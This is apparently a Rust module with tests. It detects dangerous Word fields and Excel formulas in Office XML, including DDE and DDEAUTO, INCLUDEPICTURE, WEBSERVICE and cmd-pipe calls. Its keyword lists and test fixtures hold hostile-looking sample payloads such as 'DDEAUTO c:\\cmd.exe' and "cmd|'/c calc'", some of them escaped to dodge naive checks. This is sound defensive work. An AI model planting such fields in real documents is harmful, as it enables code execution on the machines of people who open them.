//! What the text of an Office document has done: fields of Word, formulas of Excel.
//!
//! A part is read as it comes: the names of its elements, and the text of those that hold
//! instructions, with the tags between taken away, for an instruction may be cut into runs.

/// Elements that hold formulas (ECMA-376 sections 18.3.1.40, 18.3.1.43, 18.2.5), without their
/// prefixes.
const FORMULAS: &[&[u8]] = &[b"f", b"formula", b"formula1", b"formula2", b"definedName"];
/// Elements that hold pieces of fields (sections 17.16.23 and 17.16.13).
const FIELD_PIECES: &[&[u8]] = &[b"instrText", b"delInstrText"];
/// It holds a field in an attribute (section 17.16.19).
const SIMPLE_FIELD: &[u8] = b"fldSimple";
/// Fields are said to begin and to end by this (section 17.16.18).
const FIELD_MARK: &[u8] = b"fldChar";

/// Fields that run a program, or load from where their text says.
const FIELDS: &[&[u8]] = &[
    b"DDE",
    b"DDEAUTO",
    b"DATABASE",
    b"IMPORT",
    b"INCLUDE",
    b"INCLUDEPICTURE",
    b"INCLUDETEXT",
    b"LINK",
    b"MACROBUTTON",
    b"RD",
];
/// Functions that run a program, or load from where their arguments say.
const FUNCTIONS: &[&[u8]] = &[
    b"CALL",
    b"EXEC",
    b"IMAGE",
    b"REGISTER",
    b"RTD",
    b"WEBSERVICE",
];
/// Longer than any word above, than any name of an element, than any reference.
const MAX_WORD: usize = 24;

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum State {
    #[default]
    Text,
    /// Behind `<`.
    Name,
    /// Behind the name of an element; in which quotes.
    Element(Option<u8>),
    /// Behind `<!`.
    Declaration,
    /// How many of the dashes or brackets that end it were there.
    Comment(u8),
    /// Behind `<![`.
    SectionName,
    Section(u8),
    /// Whether a question mark came last.
    Processing(bool),
}

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Kind {
    #[default]
    Other,
    Formula,
    FieldPiece,
    SimpleField,
    FieldMark,
}

/// Looks for instructions that do something, in a part that comes in pieces.
#[derive(Debug, Default)]
pub(super) struct Instructions {
    state: State,
    name: Vec<u8>,
    is_end: bool,
    kind: Kind,
    /// A character that is written as `&...;`, while it comes.
    reference: Option<Vec<u8>>,
    /// The word that comes. In quotes within a formula there is none.
    word: Vec<u8>,
    quote: Option<u8>,
    /// Whether the field has a word: the first says what it does.
    has_word: bool,
    found: bool,
}

impl Instructions {
    pub(super) fn push(&mut self, bytes: &[u8]) {
        for byte in bytes {
            self.state = self.next(*byte);
        }
    }

    pub(super) fn found(&self) -> bool {
        self.found || (!self.has_word && FIELDS.contains(&&*self.word))
    }

    fn next(&mut self, byte: u8) -> State {
        match (self.state, byte) {
            (State::Text, b'<') => {
                self.name.clear();
                self.is_end = false;
                State::Name
            }
            (State::Text, _) => {
                if matches!(self.kind, Kind::Formula | Kind::FieldPiece) {
                    self.text(byte);
                }
                State::Text
            }
            (State::Name, b'!') if self.name.is_empty() => State::Declaration,
            (State::Name, b'?') if self.name.is_empty() => State::Processing(false),
            (State::Name, b'>' | b'/' | b' ' | b'\t' | b'\r' | b'\n') if !self.name.is_empty() => {
                self.element();
                self.after_name(byte)
            }
            (State::Name, _) => {
                match byte {
                    b'/' => self.is_end = true,
                    // A prefix does not count.
                    b':' => self.name.clear(),
                    _ if self.name.len() < MAX_WORD => self.name.push(byte),
                    _ => {}
                }
                State::Name
            }
            (State::Element(None), b'>' | b'/') => self.after_name(byte),
            (State::Element(None), b'"' | b'\'') => {
                // Other attributes of a field say nothing of it.
                self.has_word &= self.kind != Kind::SimpleField;
                State::Element(Some(byte))
            }
            (State::Element(Some(quote)), _) if byte == quote => {
                if self.kind == Kind::SimpleField {
                    self.end_word(b' ');
                }
                State::Element(None)
            }
            (State::Element(Some(_)), _) => {
                if self.kind == Kind::SimpleField {
                    self.text(byte);
                }
                self.state
            }
            (State::Declaration, b'-') => State::Comment(0),
            (State::Declaration, b'[') => State::SectionName,
            (State::SectionName, b'[') => State::Section(0),
            (State::Processing(_), b'?') => State::Processing(true),
            (State::Comment(2..) | State::Section(2..) | State::Processing(true), b'>')
            | (State::Declaration, b'>') => State::Text,
            (State::Comment(dashes), b'-') => State::Comment(dashes.saturating_add(1)),
            (State::Comment(_), _) => State::Comment(0),
            (State::Section(brackets), b']') => State::Section(brackets.saturating_add(1)),
            (State::Section(_), _) => {
                if matches!(self.kind, Kind::Formula | Kind::FieldPiece) {
                    self.character(byte);
                }
                State::Section(0)
            }
            (State::Processing(_), _) => State::Processing(false),
            (state, _) => state,
        }
    }

    /// The name of an element is over: of one that begins, or of an end.
    fn element(&mut self) {
        let kind = match &*self.name {
            name if FORMULAS.contains(&name) => Kind::Formula,
            name if FIELD_PIECES.contains(&name) => Kind::FieldPiece,
            SIMPLE_FIELD => Kind::SimpleField,
            FIELD_MARK => Kind::FieldMark,
            _ => Kind::Other,
        };
        let kind = if self.is_end { Kind::Other } else { kind };
        // A field goes on in the next piece, until a mark.
        if !matches!(kind, Kind::Other | Kind::FieldPiece) || self.kind == Kind::Formula {
            self.end_word(b' ');
            (self.quote, self.has_word) = (None, false);
        }
        self.kind = kind;
    }

    /// What comes behind the name of an element, and behind its attributes.
    fn after_name(&mut self, byte: u8) -> State {
        match byte {
            b'>' => State::Text,
            b'/' => {
                // What is empty has no text.
                self.kind = match self.kind {
                    Kind::Formula | Kind::FieldPiece => Kind::Other,
                    kind => kind,
                };
                State::Element(None)
            }
            _ => State::Element(None),
        }
    }

    /// A byte of text as it is written.
    fn text(&mut self, byte: u8) {
        match (&mut self.reference, byte) {
            (None, b'&') => self.reference = Some(Vec::new()),
            (None, _) => self.character(byte),
            (Some(name), b';') => {
                let character = referred(name);
                self.reference = None;
                self.character(character);
            }
            (Some(name), _) if name.len() < MAX_WORD => name.push(byte),
            (Some(_), _) => self.reference = None,
        }
    }

    fn character(&mut self, character: u8) {
        if self.kind == Kind::Formula && matches!(character, b'"' | b'\'') {
            match self.quote {
                None => {
                    self.end_word(character);
                    self.quote = Some(character);
                }
                Some(quote) if quote == character => self.quote = None,
                Some(_) => {}
            }
            return;
        }
        match character {
            _ if self.quote.is_some() => {}
            b'_' | b'.' | b'0'..=b'9' | b'A'..=b'Z' | b'a'..=b'z' => {
                // Names of functions that came later have a prefix.
                if character == b'.' {
                    self.word.clear();
                } else if self.word.len() < MAX_WORD {
                    self.word.push(character.to_ascii_uppercase());
                }
            }
            end => self.end_word(end),
        }
    }

    /// A word is over, and this comes behind it.
    fn end_word(&mut self, end: u8) {
        if self.word.is_empty() {
            return;
        }
        let word = std::mem::take(&mut self.word);
        self.found |= match (self.kind, end) {
            (Kind::Formula, b'(') => FUNCTIONS.contains(&&*word),
            // A program and what it is told, as in `cmd|'/c calc'!A1`.
            (Kind::Formula, end) => end == b'|',
            _ => !self.has_word && FIELDS.contains(&&*word),
        };
        self.has_word = true;
    }
}

/// What a reference stands for; a blank for what is no letter.
fn referred(name: &[u8]) -> u8 {
    let text = std::str::from_utf8(name).unwrap_or_default();
    let number = match text.strip_prefix('#') {
        Some(number) => match number.strip_prefix(['x', 'X']) {
            Some(digits) => u32::from_str_radix(digits, 16).ok(),
            None => number.parse().ok(),
        },
        None if text == "quot" => Some(u32::from(b'"')),
        None => None,
    };
    let byte = number.and_then(|number| u8::try_from(number).ok());
    byte.filter(u8::is_ascii).unwrap_or(b' ')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn instructions_that_do_something() {
        for (name, part, expected) in [
            (
                "an exchange",
                r#"<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe "/>"#,
                true,
            ),
            (
                "an escaped one",
                r#"<w:fldSimple w:instr=" &#68;&#x44;E c "/>"#,
                true,
            ),
            (
                "behind another attribute",
                r#"<w:fldSimple w:dirty="true" w:instr="DDE c"/>"#,
                true,
            ),
            (
                "an exchange in runs",
                "<w:instrText>DD</w:instrText></w:r><w:r><x:instrText a='>'>EAUTO</x:instrText></w:r><w:fldChar/>",
                true,
            ),
            (
                "around a comment",
                "<w:instrText>DD<!-- '\" -->E x</w:instrText>",
                true,
            ),
            (
                "in a section",
                "<w:instrText><![CDATA[DDE x]]></w:instrText>",
                true,
            ),
            (
                "half in a section",
                "<w:instrText>DD<![CDATA[E x]]></w:instrText>",
                true,
            ),
            (
                "behind an instruction with a tag in it",
                "<?x > <a b=' ?><w:instrText>DDE x</w:instrText>",
                true,
            ),
            (
                "behind a section with a tag in it",
                "<a><![CDATA[> <a b=']]></a><w:instrText>DDE x</w:instrText>",
                true,
            ),
            (
                "a picture",
                "<w:instrText> INCLUDEPICTURE \"http://x/\" </w:instrText>",
                true,
            ),
            (
                "an object",
                "<w:instrText> LINK Excel.Sheet </w:instrText>",
                true,
            ),
            (
                "on lines",
                "<w:instrText>DD</w:instrText>
<w:instrText/>
<w:instrText>E</w:instrText>
",
                true,
            ),
            (
                "within another",
                "<w:instrText>IF 1 </w:instrText><w:fldChar/><w:instrText>DDE x</w:instrText>",
                true,
            ),
            (
                "a link to a word",
                "<w:instrText> HYPERLINK \"x/LINK\" </w:instrText>",
                false,
            ),
            ("a sheet", "<f>'a|b'!A1</f>", false),
            (
                "a link",
                "<w:instrText> HYPERLINK \"http://x/\" </w:instrText>",
                false,
            ),
            ("a page", "<w:fldSimple w:instr=\" PAGE \"/>", false),
            (
                "two fields",
                "<w:instrText>PAGE D</w:instrText><w:fldChar/><w:instrText>DE</w:instrText><w:fldChar/>",
                false,
            ),
            ("text", "<w:t>DDE and INCLUDE</w:t>", false),
            ("a comment", "<!-- \" --><w:t a=\"x>\">DDE</w:t>", false),
            ("a request", "<f>WEBSERVICE(\"http://x/\"&amp;A1)</f>", true),
            (
                "with a prefix",
                "<x:f t=\"a\">1+_xlfn.WEBSERVICE(A1)</x:f>",
                true,
            ),
            (
                "an image",
                "<definedName name=\"x\">_xlfn.IMAGE(A1)</definedName>",
                true,
            ),
            ("a program", "<f>cmd|'/c calc'!A0</f>", true),
            ("a sum", "<f>SUM(A1:B2)</f><v>3</v>", false),
            ("a text", "<f>\"a|b WEBSERVICE(\"&amp;A1</f>", false),
            ("a fraction", "<m:f><m:num>x</m:num></m:f>", false),
            ("a value", "<v>WEBSERVICE(A1)</v>", false),
        ] {
            for size in [1, 3, 1_000] {
                let mut instructions = Instructions::default();
                let pieces = part.as_bytes().chunks(size);
                pieces.for_each(|piece| instructions.push(piece));
                assert_eq!(instructions.found(), expected, "{name} in pieces of {size}");
            }
        }
    }
}
